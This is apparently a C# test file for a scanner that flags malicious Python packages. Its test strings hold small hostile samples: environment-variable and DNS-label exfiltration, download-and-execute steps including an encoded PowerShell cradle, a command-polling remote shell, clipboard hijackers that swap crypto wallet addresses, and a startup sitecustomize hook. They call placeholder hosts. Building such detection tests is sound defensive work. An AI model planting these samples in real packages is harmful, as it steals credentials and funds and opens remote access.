namespace Bonded.Scanning.Tests.Checks;

/// <summary>
/// Round-3 technique families: payloads split into a sibling module that the package's import-time code reaches, clipboard
/// hijackers, DNS exfiltration in encoded labels, downloads started by name, encoded PowerShell, remote command loops and
/// placeholders under popular names; each with a look-alike that must stay benign.
/// </summary>
public sealed class ImportReachTests
{
    private static string Findings(ScanReport report) => string.Join("\n", report.Findings);

    private const string Beacon = "import os, requests\n\ndef start():\n    requests.post('https://c.invalid/e', json=dict(os.environ))\n";

    [Theory]
    [InlineData("from ._boot import start\nstart()\n")]
    [InlineData("from . import _boot\n_boot.start()\n")]
    [InlineData("import threading\nfrom . import _boot\nthreading.Thread(target=_boot.start, daemon=True).start()\n")]
    [InlineData("import threading\nfrom ._boot import start as go\nthreading.Timer(2, go).start()\n")]
    [InlineData("import demo_pkg._boot as b\nb.start()\n")]
    public async Task A_sibling_function_run_at_import_is_import_time_code(string init)
    {
        var report = await Packages.ScanSdistAsync(("demo_pkg/__init__.py", init), ("demo_pkg/_boot.py", Beacon));
        Assert.True(report.Has("credential-exfiltration"), Findings(report));
        Assert.Equal(Verdict.Threat, report.Verdict);
    }

    [Fact]
    public async Task A_class_from_a_sibling_module_instantiated_at_import_runs_its_thread_target()
    {
        var agent = "import os, threading, urllib.request\n\nclass Agent:\n    def __init__(self):\n        threading.Thread(target=self._poll, daemon=True).start()\n\n" +
            "    def _poll(self):\n        while True:\n            task = urllib.request.urlopen('http://c.invalid/t').read().decode()\n            out = os.popen(task).read()\n" +
            "            urllib.request.urlopen(urllib.request.Request('http://c.invalid/r', data=out.encode()))\n";
        var report = await Packages.ScanSdistAsync(("demo_pkg/__init__.py", "from ._agent import Agent\n_a = Agent()\n"), ("demo_pkg/_agent.py", agent));
        Assert.True(report.Has("reverse-shell"), Findings(report));
        Assert.True(report.Has("download-execute"), Findings(report));
        Assert.Equal(Verdict.Threat, report.Verdict);
    }

    [Fact]
    public async Task A_sibling_module_imported_at_import_runs_its_top_level_at_import_time()
    {
        var fonts = "import subprocess, tempfile, os, urllib.request\n_t = os.path.join(tempfile.gettempdir(), 'f.exe')\nurllib.request.urlretrieve('http://192.0.2.1/f.exe', _t)\nsubprocess.Popen([_t])\n";
        var report = await Packages.ScanSdistAsync(("demo_pkg/__init__.py", "from . import fonts\n"), ("demo_pkg/fonts.py", fonts));
        Assert.True(report.Has("download-execute"), Findings(report));
        Assert.Equal(Verdict.Threat, report.Verdict);
    }

    [Theory]
    [InlineData("from ._boot import start\n")]
    [InlineData("from . import _boot\n\ndef go():\n    _boot.start()\n")]
    [InlineData("def lazy():\n    from ._boot import start\n    start()\n")]
    public async Task A_sibling_function_only_imported_or_called_later_stays_runtime(string init)
    {
        var report = await Packages.ScanSdistAsync(("demo_pkg/__init__.py", init), ("demo_pkg/_boot.py", Beacon));
        Assert.Equal(Verdict.Benign, report.Verdict);
    }

    [Theory]
    [InlineData("import re, pyperclip\nP = re.compile(r'^0x[a-fA-F0-9]{40}$')\ndef loop():\n    t = pyperclip.paste()\n    if P.match(t):\n        pyperclip.copy('0x' + '0' * 40)\n")]
    [InlineData("import re, tkinter\nP = re.compile(r'^(bc1|[13])[a-km-zA-HJ-NP-Z1-9]{25,39}$')\ndef loop():\n    r = tkinter.Tk()\n    if P.match(r.clipboard_get()):\n        r.clipboard_append('bc1q0000')\n")]
    [InlineData("import re, subprocess\nP = re.compile(r'^T[1-9A-HJ-NP-Za-km-z]{33}$')\ndef loop():\n    t = subprocess.run(['xsel', '-b', '-o'], capture_output=True).stdout\n    if P.match(t):\n        subprocess.run(['xsel', '-b', '-i'], input=b'T111')\n")]
    public async Task A_clipboard_rewritten_when_it_holds_a_wallet_address_from_an_import_thread_is_a_threat(string clip)
    {
        var report = await Packages.ScanSdistAsync(("demo_pkg/__init__.py", "import threading\nfrom . import _c\nthreading.Thread(target=_c.loop, daemon=True).start()\n"), ("demo_pkg/_c.py", clip));
        Assert.True(report.Has("clipboard-hijack"), Findings(report));
        Assert.Equal(Verdict.Threat, report.Verdict);
    }

    [Fact]
    public async Task A_clipboard_manager_without_wallet_patterns_stays_benign()
    {
        var clip = "import threading, pyperclip\nhistory = []\ndef loop():\n    history.append(pyperclip.paste())\ndef restore(i):\n    pyperclip.copy(history[i])\nthreading.Thread(target=loop, daemon=True).start()\n";
        var report = await Packages.ScanSdistAsync(("demo_pkg/__init__.py", clip));
        Assert.False(report.Has("clipboard-hijack"), Findings(report));
        Assert.Equal(Verdict.Benign, report.Verdict);
    }

    [Theory]
    [InlineData("import base64, socket\ndata = open('/etc/hostname', 'rb').read()\nenc = base64.b32encode(data).decode().strip('=')\nsocket.gethostbyname(enc + '.z.invalid')\n")]
    [InlineData("import binascii, os, dns.resolver\nblob = binascii.hexlify(os.getcwd().encode()).decode()\nfor i in range(0, len(blob), 40):\n    dns.resolver.resolve('%s.%d.z.invalid' % (blob[i:i + 40], i), 'A')\n")]
    [InlineData("import socket\nname = open('/etc/passwd', 'rb').read(30).hex()\nsocket.getaddrinfo(f'{name}.z.invalid', 53)\n")]
    [InlineData("import getpass, socket\nblob = getpass.getuser().encode()\nfor i, part in enumerate([blob.hex()]):\n    socket.getaddrinfo('%s.%d.z.invalid' % (part, i), 53)\n")]
    public async Task Dns_lookups_of_encoded_data_at_import_are_exfiltration(string init)
    {
        var report = await Packages.ScanSdistAsync(("demo_pkg/__init__.py", init));
        Assert.True(report.Has("credential-exfiltration"), Findings(report));
        Assert.Equal(Verdict.Threat, report.Verdict);
    }

    [Fact]
    public async Task Dns_names_from_hash_digests_and_reversed_addresses_stay_benign()
    {
        var init = "import hashlib, socket\nDIGEST = hashlib.sha256(b'user').hexdigest()[:56]\nsocket.gethostbyname(DIGEST + '._openpgpkey.example.org')\n" +
            "socket.gethostbyname('.'.join(reversed('192.0.2.1'.split('.'))) + '.zen.example.org')\n";
        var report = await Packages.ScanSdistAsync(("demo_pkg/__init__.py", init));
        Assert.False(report.Has("credential-exfiltration"), Findings(report));
    }

    [Theory]
    [InlineData("import os, subprocess\nt = '/tmp/.p'\nsubprocess.call(['wget', '-q', '-O', t, 'http://192.0.2.9/p'])\nos.chmod(t, 0o755)\nsubprocess.Popen([t])\n")]
    [InlineData("import os, subprocess\nexe = os.path.join(os.environ['TEMP'], 'u.exe')\nsubprocess.run(['curl', '-s', '-o', exe, 'http://192.0.2.9/u.exe'])\nos.startfile(exe)\n")]
    [InlineData("import subprocess, urllib.request\nurllib.request.urlretrieve('http://192.0.2.9/x', '/tmp/x')\nsubprocess.Popen(['/tmp/x'])\n")]
    [InlineData("import requests, subprocess\nr = requests.get('http://192.0.2.9/x')\nwith open('/tmp/x', 'wb') as f:\n    f.write(r.content)\nsubprocess.Popen(['/tmp/x'])\n")]
    public async Task A_download_started_by_its_saved_name_at_install_is_a_threat(string setup)
    {
        var report = await Packages.ScanSdistAsync(("setup.py", setup));
        Assert.True(report.Has("download-execute"), Findings(report));
        Assert.Equal(Verdict.Threat, report.Verdict);
    }

    [Fact]
    public async Task Encoded_powershell_is_decoded_and_read()
    {
        var encoded = Convert.ToBase64String(System.Text.Encoding.Unicode.GetBytes("IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.7/a.ps1')"));
        var report = await Packages.ScanSdistAsync(("setup.py", $"import subprocess\nsubprocess.Popen(['powershell', '-NoP', '-W', 'Hidden', '-EncodedCommand', '{encoded}'])\n"));
        Assert.True(report.Has("download-execute"), Findings(report));
        Assert.Equal(Verdict.Threat, report.Verdict);
    }

    [Fact]
    public async Task A_job_runner_that_polls_only_when_called_stays_benign()
    {
        var runner = "import subprocess, requests\n\ndef run(server):\n    while True:\n        cmd = requests.get(server + '/next').text\n" +
            "        out = subprocess.run(cmd, shell=True, capture_output=True).stdout\n        requests.post(server + '/done', data=out)\n";
        var report = await Packages.ScanSdistAsync(("demo_pkg/runner.py", runner), ("demo_pkg/__init__.py", "from .runner import run\n"));
        Assert.False(report.Has("reverse-shell"), Findings(report));
        Assert.Equal(Verdict.Benign, report.Verdict);
    }

    [Fact]
    public async Task A_command_loop_obeying_a_server_written_into_the_package_weighs_even_when_called()
    {
        var debug = "import subprocess, threading, requests\n_SERVER = 'http://192.0.2.120:7331'\n\ndef _handle(cmd):\n    return subprocess.check_output(cmd, shell=True).decode()\n\n" +
            "def _poll():\n    while True:\n        cmd = requests.get(_SERVER + '/commands').json().get('command')\n        requests.post(_SERVER + '/output', json={'output': _handle(cmd)})\n\n" +
            "def run_debug():\n    threading.Thread(target=_poll, daemon=True).start()\n";
        var report = await Packages.ScanSdistAsync(("demo_pkg/debug.py", debug), ("demo_pkg/__init__.py", "from .debug import run_debug\n"));
        Assert.True(report.Has("reverse-shell"), Findings(report));
        Assert.Equal(Verdict.Threat, report.Verdict);
    }

    [Theory]
    [InlineData("TELEGRAM = 'https://api.telegram.org/bot{token}/sendMessage'\n")]
    [InlineData("DISCORD = 'https://discord.com/api/webhooks/%s/%s'\n")]
    public async Task A_messenger_api_template_in_a_client_library_stays_benign(string constant)
    {
        var report = await Packages.ScanSdistAsync(("demo_pkg/__init__.py", "import requests\n" + constant + "\ndef send(url, text):\n    return requests.post(url, json={'text': text})\n"));
        Assert.False(report.Has("exfiltration-endpoint"), Findings(report));
        Assert.Equal(Verdict.Benign, report.Verdict);
    }

    [Fact]
    public async Task A_placeholder_under_a_popular_name_is_indeterminate_and_a_described_variant_is_not()
    {
        const string empty = "Metadata-Version: 2.1\nName: requests-cli-tools\nVersion: 0.0.1\n";
        var report = await Packages.ScanAsync(Packages.Sdist("requests-cli-tools-0.0.1", ("PKG-INFO", empty), ("requests_cli_tools/__init__.py", "def main():\n    pass\n")), "requests-cli-tools-0.0.1.tar.gz");
        Assert.True(report.Has("typosquatting"), Findings(report));
        Assert.Equal(Verdict.Indeterminate, report.Verdict);

        const string described = "Metadata-Version: 2.1\nName: requests-cli-tools\nVersion: 0.0.1\nSummary: Command-line helpers around requests\nAuthor: A\n\nHelpers.\n";
        var real = await Packages.ScanAsync(Packages.Sdist("requests-cli-tools-0.0.1", ("PKG-INFO", described), ("requests_cli_tools/__init__.py", "def main():\n    pass\n")), "requests-cli-tools-0.0.1.tar.gz");
        Assert.False(real.Has("typosquatting"), Findings(real));
    }

    [Fact]
    public async Task A_root_sitecustomize_in_an_sdist_runs_at_start_up()
    {
        var report = await Packages.ScanSdistAsync(("sitecustomize.py", "import json, os, urllib.request\n\ndef _sync():\n    urllib.request.urlopen('http://192.0.2.3/e', data=json.dumps(dict(os.environ)).encode())\n\n_sync()\n"));
        Assert.Equal(Verdict.Threat, report.Verdict);
    }
}
